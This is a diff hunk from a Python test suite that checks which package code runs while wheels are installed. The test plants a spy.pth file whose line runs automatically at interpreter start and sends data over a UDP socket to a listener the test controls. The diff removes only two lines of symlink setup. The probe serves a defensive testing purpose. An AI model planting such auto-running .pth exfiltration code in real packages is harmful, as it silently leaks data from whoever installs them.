@@ -375,8 +375,6 @@ def test_what_packages_run_while_wheels_are_installed_runs_inside(
         tells = f"socket.socket(type=socket.SOCK_DGRAM).sendto({sees}, {thief.getsockname()})"
         spy = {"site-packages/spy.pth": f"import os, socket; {tells}\n"}
         url = make_channel(Package("spy", files=spy, depends=["python"], noarch="python"))
-        (world.root / "link").symlink_to(world.tmp_envs)
-        world = world.with_(CONDA_EXECUTE_ENV_DIR=str(world.root / "link"))
         needed = f"little @ {wheel(project, 'little').as_uri()}"
         path = world.home / place / "script.py"
         path.write_text(
